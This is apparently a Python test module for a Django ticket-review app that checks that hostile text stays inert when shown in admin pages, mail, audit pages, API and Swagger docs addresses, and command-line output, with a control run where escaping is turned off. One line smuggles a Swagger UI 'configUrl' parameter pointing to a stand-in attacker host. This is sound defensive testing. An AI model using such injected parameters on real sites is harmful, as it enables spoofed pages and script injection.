"""C14: what a program, an AI or a stranger writes is shown as text and does nothing."""

import time
from collections.abc import Callable
from urllib.parse import quote

from django.conf import settings

from approvals.models import User
from reviews.services.deliveries import dispatch_due
from tests.journeys.mailbox import html_of, mail_server
from tests.prove import laden
from tests.prove.cast import cast
from tests.prove.hostile import hostile
from tests.prove.letters import link_for
from tests.prove.onlookers import House, parcels, printed_by
from tests.prove.rows import Figure, Row, figure
from tests.prove.scene import Scene
from tests.prove.windows import Seen, chromium


def desk(house: House) -> Seen:
    """Each text as a title in the queue, and in every place of a ticket's page."""
    seen = Seen()
    with house.window(seen) as window:
        for texts in parcels(house.texts, laden.EACH):
            for text in texts:
                house.people.open(title=text[:200] or "-")
            window.open("/admin/reviews/ticket/?show=all")
            ticket = laden.ticket_with(house.people, texts).ticket
            window.open(f"/admin/reviews/ticket/{ticket.pk}/change/")
    return seen


def mail_page(house: House) -> Seen:
    """The page behind a link, in a browser in which nobody is signed in."""
    seen = Seen()
    for texts in parcels(house.texts, laden.EACH):
        ticket = laden.ticket_with(house.people, texts).ticket
        _, token = link_for(ticket.pk, house.people.voters[0])
        with house.window(seen, signed_in=False) as window:
            window.open(f"/a/{token}")
    return seen


def mails(house: House) -> Seen:
    """The HTML of mails that came over SMTP, in a browser that runs whatever scripts they hold."""
    seen, own = Seen(), settings.BASE_URL + "/"
    kept = settings.MAIL_NOTICES, settings.EMAIL_BACKEND
    settings.EMAIL_BACKEND = "django.core.mail.backends.smtp.EmailBackend"
    settings.MAIL_NOTICES = True
    with mail_server() as box, house.window(seen, signed_in=False) as window:
        settings.EMAIL_HOST, settings.EMAIL_PORT = "127.0.0.1", box.port
        count = 0
        for texts in parcels(house.texts, laden.IN_A_MAIL):
            laden.ticket_for_mail(house.people, texts)
            count += 1
        dispatch_due()
        address = house.people.voters[0].email
        for number in range(1, count + 1):
            window.show(html_of(box.to(address, count=number)), own)
    settings.MAIL_NOTICES, settings.EMAIL_BACKEND = kept
    return seen


def audit(house: House) -> Seen:
    """The audit trail's list and the page of one event."""
    seen = Seen()
    with house.window(seen) as window:
        for texts in parcels(house.texts, laden.EACH):
            stream, event = laden.events_with(texts)
            window.open(f"/admin/audit/auditevent/?stream={quote(stream)}")
            window.open(f"/admin/audit/auditevent/{event}/change/")
    return seen


def addresses(house: House) -> Seen:
    """The documentation of the interface, and what it and the pages answer to wrong addresses."""
    seen = Seen()
    with house.window(seen) as window:
        for texts in parcels(house.texts, laden.EACH):
            short = [quote(text[:300], safe="") for text in texts]
            pairs = "&".join(f"{text}={text}" for text in short)
            window.open(f"/api/v1/tickets?{pairs}")
            window.open(f"/api/v1/tickets/{''.join(short[:8])}")
            window.open(f"/nowhere/{''.join(short[8:16])}?next={short[0]}")
            window.open(f"/admin/reviews/ticket/?q={''.join(short[16:])}&show={short[1]}")
        for texts in parcels(house.texts, laden.EACH * 4):
            short = [quote(text[:150], safe="") for text in texts]
            asked = "&".join(f"{text}={text}" for text in short)
            named = f"url={short[0]}&configUrl=http://evil.example/config.json&{asked}"
            # Swagger UI lets its paths break at zero-width spaces of its own.
            window.open(f"/api/v1/docs?{named}#/{short[1]}", besides="\u200b")
    return seen


def command_line(house: House) -> Seen:
    """What `hitl` writes: the bytes themselves, as a terminal would get them."""
    seen = Seen()
    for texts in parcels(house.texts, laden.EACH):
        ticket = laden.ticket_with(house.people, texts).ticket
        printed_by(house, seen, "get", ticket.label)
    printed_by(house, seen, "queue", "--limit", "10000")
    printed_by(house, seen, "--output", "json", "queue", "--limit", "10000")
    return seen


SURFACES: dict[str, Callable[[House], Seen]] = {
    "desk": desk,
    "mail page": mail_page,
    "mail": mails,
    "audit pages": audit,
    "documentation and problems": addresses,
    "command line": command_line,
}


def shown(scene: Scene) -> Figure:
    texts = [text for _, text in hostile(scene.size(500, least=50), scene.rng)]
    people = cast(voters=3, needed=2, listening=False)
    User.objects.filter(pk=people.voters[0].pk).update(is_staff=True, is_superuser=True)
    found: dict[str, Seen] = {}
    with scene.served() as url, chromium() as browser:
        house = House(url, browser, people, texts)
        for name, look in SURFACES.items():
            began = time.monotonic()
            found[name] = look(house)
            found[name].seconds = round(time.monotonic() - began, 1)
    sums: dict[str, int] = {}
    for seen in found.values():
        for name, count in seen.sums.items():
            sums[name] = sums.get(name, 0) + count
    pages = sum(seen.pages for seen in found.values())
    return figure(
        f"{len(texts)} payloads on each of {len(found)} surfaces, {pages} pages and outputs",
        details={
            name: {
                "pages": seen.pages,
                "seconds": seen.seconds,
                **seen.sums,
                "which": dict(seen.hidden.most_common(8)),
            }
            for name, seen in found.items()
        },
        **sums,
        surfaces_that_showed_no_text=sum(not seen.told for seen in found.values()),
    )


def run(scene: Scene) -> Figure:
    return shown(scene)


def control(scene: Scene) -> Figure:
    """Show the same texts through the same templates, with nothing escaped and no policy."""
    scene.switch_off("inert")
    scene.scale = min(scene.scale, 0.1)
    return shown(scene)


ROW = Row("C14", "Foreign text is shown and does nothing", run, control)
